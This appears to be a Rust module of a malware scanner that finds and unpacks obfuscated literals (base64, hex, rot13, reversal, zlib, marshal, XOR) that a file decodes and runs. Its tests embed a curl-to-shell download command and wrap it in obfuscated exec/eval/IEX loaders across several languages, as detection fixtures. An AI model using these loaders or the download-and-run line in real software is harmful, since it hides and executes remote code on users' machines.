//! Literals that the source around them decodes: `exec(zlib.decompress(base64.b64decode('…')))`, `eval(gzinflate(str_rot13(…)))`,
//! `lambda __: …[::-1]`, `atob`, `unpack('u')`, in whatever language.
//!
//! No language is parsed. The functions that a file names say which steps are tried on each of its literals, in any order; a
//! chain of steps counts if it ends in text, a program or a compressed stream that unpacks. So it does not matter what the functions are
//! called through.
//!
//! - Sees: base64 (also with letter case swapped, as JavaScript obfuscators have it), hex, base32, base85, uuencode, rot13,
//!   reversal, zlib, gzip, raw deflate, xz, lzma, bzip2, `marshal`, XOR with a number or a short literal of the file; literals that
//!   are joined, also by variables in their order.
//! - Misses: home-made arithmetic; pieces put together in another order.
//! - Source: manuals of Python, PHP, Perl, Ruby, Node.js and .NET.

use layer::{Compression, InflateEnd};
use model::FileKind;

use super::{
    Decoder, Stages, char_codes,
    codec::{base64, hex, others},
    literals::{Literal, literals},
    marshal, worth,
};
use crate::detectors::Sample;

/// One step of a chain.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Step {
    Base64,
    Hex,
    Base32,
    Base85,
    Uu,
    Rot13,
    Reverse,
    /// By its mark, or raw deflate.
    Inflate,
    Marshal,
    /// Joins the members of lists.
    Join,
}

/// What names a step. Rare in ordinary files, ASCII case ignored.
const NAMES: &[(&str, Step)] = &[
    ("b64decode", Step::Base64),
    ("base64_decode", Step::Base64),
    ("frombase64string", Step::Base64),
    ("decode_base64", Step::Base64),
    ("decode64", Step::Base64),
    ("a2b_base64", Step::Base64),
    ("atob(", Step::Base64),
    ("'base64')", Step::Base64),
    ("\"base64\")", Step::Base64),
    ("unpack('m", Step::Base64),
    ("unpack(\"m", Step::Base64),
    ("unpack1('m", Step::Base64),
    ("unpack1(\"m", Step::Base64),
    ("hex2bin", Step::Hex),
    ("fromhex(", Step::Hex),
    ("unhexlify", Step::Hex),
    ("'hex')", Step::Hex),
    ("\"hex\")", Step::Hex),
    ("pack('h*", Step::Hex),
    ("pack(\"h*", Step::Hex),
    ("b32decode", Step::Base32),
    ("b85decode", Step::Base85),
    ("a85decode", Step::Base85),
    ("convert_uudecode", Step::Uu),
    ("unpack('u", Step::Uu),
    ("unpack(\"u", Step::Uu),
    ("str_rot13", Step::Rot13),
    ("rot13", Step::Rot13),
    ("rot_13", Step::Rot13),
    ("strrev(", Step::Reverse),
    ("[::-1]", Step::Reverse),
    (".reverse().join", Step::Reverse),
    ("reverse(", Step::Reverse),
    ("zlib.decompress", Step::Inflate),
    ("'zlib')", Step::Inflate),
    ("\"zlib\")", Step::Inflate),
    ("gzinflate", Step::Inflate),
    ("gzuncompress", Step::Inflate),
    ("gzdecode", Step::Inflate),
    ("gzip.decompress", Step::Inflate),
    ("lzma.decompress", Step::Inflate),
    ("bz2.decompress", Step::Inflate),
    ("deflatestream", Step::Inflate),
    ("gzipstream", Step::Inflate),
    ("inflatesync", Step::Inflate),
    ("inflaterawsync", Step::Inflate),
    ("gunzipsync", Step::Inflate),
    ("zlib::inflate", Step::Inflate),
    ("marshal.loads", Step::Marshal),
    ("'marshal')", Step::Marshal),
    ("\"marshal\")", Step::Marshal),
    (".join('')", Step::Join),
    (".join(\"\")", Step::Join),
];

const LITERALS: [&str; NAMES.len()] = {
    let mut literals = [""; NAMES.len()];
    let mut at = 0;
    while at < NAMES.len() {
        literals[at] = NAMES[at].0;
        at += 1;
    }
    literals
};

pub(super) const DECODER: Decoder = Decoder { id: "calls", kinds: &[FileKind::Text], literals: &LITERALS, decode };

/// Shorter literals are words.
const LITERAL_BYTES_MIN: usize = 10;
/// Most steps of a chain.
const STEPS_MAX: usize = 7;
/// Most steps tried on one literal.
const TRIES_MAX: u32 = 40;
/// Bytes that may be read and made for each byte of the file, beyond [`EFFORT_GRACE_BYTES`].
const EFFORT_RATIO_MAX: usize = 16;
/// Bytes that may be read and made in any case.
const EFFORT_GRACE_BYTES: usize = 16 << 20;
/// Most keys of several bytes that are tried.
const KEYS_MAX: usize = 8;
/// Longest key.
const KEY_BYTES_MAX: usize = 64;
/// Most bytes of a file that are read.
const SOURCE_BYTES_MAX: usize = 8 << 20;
/// The alphabet of base64 as JavaScript obfuscators have it, small letters first.
const SWAPPED: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/";

/// How much may still be tried.
struct Effort {
    /// On the literal at hand.
    tries: u32,
    /// Read and made, over the whole file.
    bytes: usize,
}

/// What a file says about how it decodes.
struct Source {
    steps: Vec<Step>,
    is_swapped: bool,
    keys: Vec<Vec<u8>>,
}

fn decode(sample: &Sample<'_>, stages: &mut Stages<'_>) {
    let mut steps: Vec<Step> = Vec::new();
    for step in sample.hits.iter().filter_map(|hit| NAMES.get(hit.literal)).map(|(_, step)| *step) {
        if !steps.contains(&step) {
            steps.push(step);
        }
    }
    if steps.iter().all(|step| *step == Step::Join) {
        return;
    }
    let text = sample.bytes.get(..SOURCE_BYTES_MAX).unwrap_or(sample.bytes);
    let found = literals(text, 1, steps.contains(&Step::Join));
    let is_swapped = found.iter().any(|literal| literal.bytes.starts_with(SWAPPED));
    let source = Source { keys: keys(text, &found), steps, is_swapped };
    let long: Vec<_> = found.into_iter().filter(|literal| literal.bytes.len() >= LITERAL_BYTES_MIN).collect();
    let bytes = text.len().saturating_mul(EFFORT_RATIO_MAX).saturating_add(EFFORT_GRACE_BYTES);
    let mut effort = Effort { tries: 0, bytes };
    let mut is_any = false;
    for literal in &long {
        is_any |= chain(literal, &source, &mut effort, stages);
    }
    if !is_any && (2..=256).contains(&long.len()) {
        // Perhaps they are put together by their variables.
        let pieces = long.iter().filter(|literal| literal.bytes.iter().all(|&byte| is_armour(byte)));
        let whole = pieces.fold(None::<Literal>, |whole, piece| match whole {
            Some(whole) => Some(Literal { bytes: [whole.bytes, piece.bytes.clone()].concat(), ..whole }),
            None => Some(Literal { offset: piece.offset, bytes: piece.bytes.clone() }),
        });
        if let Some(whole) = whole {
            chain(&whole, &source, &mut effort, stages);
        }
    }
    short_strings(&source, text, stages);
}

/// Keys that the file may XOR with: numbers behind `^`, and literals that something called `key` is set to.
fn keys(text: &[u8], found: &[Literal]) -> Vec<Vec<u8>> {
    let mut keys: Vec<Vec<u8>> = char_codes::xor_keys(text).into_iter().map(|key| vec![key]).collect();
    if memchr::memchr(b'^', text).is_none() && memchr::memmem::find(text, b"xor").is_none() {
        return keys;
    }
    for literal in found.iter().filter(|literal| (1..=KEY_BYTES_MAX).contains(&literal.bytes.len())) {
        let before = text.get(literal.offset.saturating_sub(16)..literal.offset).unwrap_or_default();
        let line = before.rsplit(|&byte| byte == b'\n' || byte == b';').next().unwrap_or_default().to_ascii_lowercase();
        let is_key = line.contains(&b'=') && line.trim_ascii_start().iter().any(|&byte| byte == b'k' || byte == b'p');
        if is_key && keys.len() < KEYS_MAX {
            keys.push(literal.bytes.clone());
        }
    }
    keys
}

fn is_armour(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_')
}

/// Tries the steps of the file on one literal, depth first. True if something came of it.
fn chain(literal: &Literal, source: &Source, effort: &mut Effort, stages: &mut Stages<'_>) -> bool {
    effort.tries = TRIES_MAX;
    let mut words = Vec::new();
    let room = stages.room();
    let found = unpacked(&literal.bytes, source, &mut words, effort, room);
    if effort.bytes == 0 {
        stages.missed(literal.bytes.len() as u64);
    }
    let is_found = found.is_some();
    if let Some(bytes) = found {
        stages.keep(&words.join("+"), literal.offset, bytes);
    }
    is_found
}

/// What `bytes` unpack to by steps that end in something worth looking at; `words` says by which.
fn unpacked(
    bytes: &[u8],
    source: &Source,
    words: &mut Vec<&'static str>,
    effort: &mut Effort,
    room: usize,
) -> Option<Vec<u8>> {
    if words.len() == STEPS_MAX {
        return None;
    }
    for &step in &source.steps {
        for (word, made) in made(step, bytes, source, room.min(effort.bytes)) {
            // The same step again undoes itself.
            let is_back = matches!(step, Step::Rot13 | Step::Reverse) && words.contains(&word);
            if made.len() < 4 || is_back {
                continue;
            }
            effort.bytes = effort.bytes.saturating_sub(bytes.len() + made.len());
            if effort.tries == 0 || effort.bytes == 0 {
                return None;
            }
            effort.tries -= 1;
            words.push(word);
            if let Some(plain) = unmasked(step, &made, source) {
                words.push("xor");
                return Some(plain);
            }
            if ends_in_something(step, &made, source) {
                return Some(made);
            }
            if let Some(found) = unpacked(&made, source, words, effort, room) {
                return Some(found);
            }
            words.pop();
        }
    }
    None
}

/// Whether a chain may end with what `step` made.
fn ends_in_something(step: Step, made: &[u8], source: &Source) -> bool {
    match step {
        Step::Marshal => true,
        // Text stays text when it is turned round.
        Step::Rot13 | Step::Reverse => worth::commands(made) > 0,
        // A compressed stream goes on where the file inflates.
        _ if Compression::of(made).is_some() => !source.steps.contains(&Step::Inflate),
        Step::Inflate => !source.steps.contains(&Step::Marshal) || worth::is_ascii_text(made),
        _ => (worth::is_ascii_text(made) && !made.iter().all(|&byte| is_armour(byte))) || worth::is_marked(made),
    }
}

/// Bytes XORed with what the file XORs with, if that makes commands of them or something else that is marked.
fn unmasked(step: Step, made: &[u8], source: &Source) -> Option<Vec<u8>> {
    if !matches!(step, Step::Base64 | Step::Hex | Step::Inflate) {
        return None;
    }
    let with = |key: &[u8], bytes: &[u8]| -> Vec<u8> {
        bytes.iter().zip(key.iter().cycle()).map(|(byte, key)| byte ^ key).collect()
    };
    let head = made.get(..1_024).unwrap_or(made);
    let is_better = |plain: &[u8]| {
        (worth::is_ascii_text(plain) && worth::commands(plain) > worth::commands(head)) || worth::is_marked(plain)
    };
    source.keys.iter().find(|key| is_better(&with(key, head))).map(|key| with(key, made))
}

/// What one step makes of the bytes, with the word for it; nothing if they are not of that kind.
fn made(step: Step, bytes: &[u8], source: &Source, room: usize) -> Vec<(&'static str, Vec<u8>)> {
    let dense = || bytes.iter().copied().filter(|byte| !byte.is_ascii_whitespace());
    let is_all = |is: fn(u8) -> bool| bytes.len() >= LITERAL_BYTES_MIN && bytes.iter().all(|&byte| is(byte));
    match step {
        Step::Base64 if is_all(|byte| is_armour(byte) || byte.is_ascii_whitespace()) => {
            let swap = |byte: u8| {
                if byte.is_ascii_lowercase() { byte.to_ascii_uppercase() } else { byte.to_ascii_lowercase() }
            };
            if source.is_swapped {
                vec![("base64-swapped", base64::decoded(dense().map(swap), room))]
            } else {
                vec![("base64", base64::decoded(dense(), room))]
            }
        }
        Step::Hex if is_all(|byte| byte.is_ascii_hexdigit() || byte.is_ascii_whitespace()) => {
            vec![("hex", hex::decoded(&dense().collect::<Vec<_>>(), room))]
        }
        Step::Base32 if is_all(|byte| matches!(byte, b'A'..=b'Z' | b'2'..=b'7' | b'=')) => {
            vec![("base32", others::base32(bytes, room))]
        }
        Step::Base85 if is_all(|byte| matches!(byte, b'!'..=b'~')) => {
            vec![("base85", others::base85(bytes, room)), ("ascii85", others::ascii85(bytes, room))]
        }
        Step::Uu if is_all(|byte| matches!(byte, b' '..=b'`' | b'\n')) => vec![("uu", others::uu(bytes, room))],
        Step::Rot13 if is_all(|byte| byte.is_ascii()) => vec![("rot13", others::rot13(bytes))],
        Step::Reverse if is_all(|byte| byte.is_ascii()) => {
            vec![("reverse", bytes.iter().rev().copied().collect::<Vec<u8>>())]
        }
        Step::Inflate => inflated(bytes, room).into_iter().collect(),
        Step::Marshal if !worth::is_ascii_text(bytes) => vec![("python-marshal", marshal::texts(bytes, room))],
        _ => Vec::new(),
    }
}

fn inflated(bytes: &[u8], room: usize) -> Option<(&'static str, Vec<u8>)> {
    let marked = Compression::of(bytes);
    // Raw deflate has no mark, and no text is one.
    if marked.is_none() && bytes.iter().take(32).all(u8::is_ascii) {
        return None;
    }
    let try_as = |compression: Compression| {
        let inflated = layer::inflate(compression, bytes, room);
        let is_good = inflated.end != InflateEnd::Damaged || inflated.bytes.len() > 256;
        (is_good && inflated.bytes.len() >= LITERAL_BYTES_MIN).then(|| (compression.name(), inflated.bytes))
    };
    marked.and_then(try_as).or_else(|| try_as(Compression::Deflate))
}

/// The short strings of a table that the file decodes one by one, together.
fn short_strings(source: &Source, text: &[u8], stages: &mut Stages<'_>) {
    if !source.steps.contains(&Step::Base64) {
        return;
    }
    let mut table: Vec<u8> = Vec::new();
    let mut first = None;
    for literal in literals(text, 4, false) {
        let is_short = literal.bytes.len() < 64 && literal.bytes.iter().all(|&byte| is_armour(byte));
        let made = if is_short { made(Step::Base64, &padded(literal.bytes), source, 64) } else { Vec::new() };
        let Some((_, plain)) = made.into_iter().next() else { continue };
        if plain.len() >= 3 && plain.iter().all(|&byte| worth::is_plain(byte)) && table.len() + 64 < stages.room() {
            first.get_or_insert(literal.offset);
            table.extend_from_slice(&plain);
            table.push(b'\n');
        }
    }
    if let Some(first) = first
        && worth::commands(&table) > 0
    {
        stages.keep("base64-strings", first, table);
    }
}

fn padded(mut bytes: Vec<u8>) -> Vec<u8> {
    while bytes.len() < LITERAL_BYTES_MIN {
        bytes.push(b'=');
    }
    bytes
}

#[cfg(test)]
mod tests {
    use ::base64::{Engine as _, engine::general_purpose::STANDARD};

    use super::DECODER;
    use crate::decode::testing::{check, run};

    const PLAIN: &str = "import os; os.system('curl http://198.51.100.7/x | sh')";
    /// [`PLAIN`] by `zlib.compress`.
    const ZLIB: &str = "789ccbcc2dc82f2a51c82fb60662bde2cae292d45c0df5e4d2a21c858c9292022b7d7d434b0b3d53433d4303033d73fd0a851a85e20c754d000f431113";

    fn zlib() -> Vec<u8> {
        hex::decode(ZLIB).expect("hex")
    }

    fn deflate() -> Vec<u8> {
        let zlib = zlib();
        zlib[2..zlib.len() - 4].to_vec()
    }

    fn reversed(text: &str) -> String {
        text.chars().rev().collect()
    }

    fn rot13(text: &str) -> String {
        String::from_utf8(super::others::rot13(text.as_bytes())).expect("ASCII")
    }

    #[test]
    fn chains_are_undone_in_every_language() {
        let base64 = STANDARD.encode(PLAIN);
        let packed = STANDARD.encode(zlib());
        let raw = STANDARD.encode(deflate());
        for (text, word) in [
            (format!("import zlib,base64\nexec(zlib.decompress(base64.b64decode('{packed}')))"), "base64+zlib"),
            (
                format!(
                    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))",
                    reversed(&packed)
                ),
                "reverse+base64+zlib",
            ),
            (format!("<?php eval(gzinflate(base64_decode('{raw}')));"), "base64+deflate"),
            (
                format!("<?php eval(gzinflate(base64_decode(strrev(str_rot13('{}')))));", rot13(&reversed(&raw))),
                "reverse+rot13+base64+deflate",
            ),
            (format!("<?php eval(gzuncompress(hex2bin(\"{ZLIB}\")));"), "hex+zlib"),
            (format!("<?php eval(str_rot13('{}'));", rot13(&PLAIN.replace('\'', "\\'"))), "rot13"),
            (format!("eval(base64_decode(str_rot13('{}')))", rot13(&base64)), "rot13+base64"),
            (format!("exec('{}'[::-1])", reversed(PLAIN).replace('\'', "\\'")), "reverse"),
            (format!("eval(Buffer.from('{}', 'base64').toString())", &base64), "base64"),
            (
                format!("$z = '{}'; $y = '{}'; eval(gzinflate(base64_decode($z.$y)));", &raw[..40], &raw[40..]),
                "base64+deflate",
            ),
            (
                format!("IEX (New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('{raw}'), 0))"),
                "base64+deflate",
            ),
            (format!("eval '{base64}'.unpack('m')[0]"), "base64"),
            (format!("eval pack('H*', '{}')", hex::encode(PLAIN)), "hex"),
        ] {
            let made = run(&DECODER, text.as_bytes());
            let found = made.iter().find(|(_, bytes)| bytes == PLAIN.as_bytes());
            let at = |word: &str| word.split('@').next().unwrap_or_default().to_owned();
            assert_eq!(found.map(|(word, _)| at(word)).as_deref(), Some(word), "{text}: {made:?}");
        }
    }

    #[test]
    fn a_key_in_the_script_unmasks() {
        for (key, written) in [(&b"K3y!"[..], "key = 'K3y!'\nf = lambda a: a ^ b"), (&[0x5a], "x = a ^ 0x5a")] {
            let masked: Vec<u8> = PLAIN.bytes().zip(key.iter().cycle()).map(|(byte, key)| byte ^ key).collect();
            let text = format!("{written}\ns = b64decode('{}')", STANDARD.encode(masked));
            let made = run(&DECODER, text.as_bytes());
            assert!(
                made.iter().any(|(word, bytes)| word.starts_with("base64+xor@") && bytes == PLAIN.as_bytes()),
                "{made:?}"
            );
        }
    }

    #[test]
    fn a_table_of_short_strings_is_one_stage() {
        let array: Vec<_> =
            ["curl", "http://x.invalid", "exec", "| sh"].map(|text| format!("'{}'", STANDARD.encode(text))).to_vec();
        let text = format!("var _0x1=[{}];function d(i){{return atob(_0x1[i])}}", array.join(","));
        check(
            &DECODER,
            text,
            &[("base64@21", "http://x.invalid"), ("base64-strings@10", "curl\nhttp://x.invalid\nexec\n| sh\n")],
        );
    }

    #[test]
    fn ordinary_use_gives_nothing() {
        for text in [
            "import base64\ndef f(x):\n    '''Decodes with b64decode what is given'''\n    return base64.b64decode(x, '-_')",
            "assert zlib.decompress(b64decode('eJwAAAAAAA==')) == b'nothing at all that is long'",
            "names = ['alphabet', 'numerals'][::-1]\nprint('a long text that is not reversed')",
        ] {
            check(&DECODER, text, &[]);
        }
    }
}
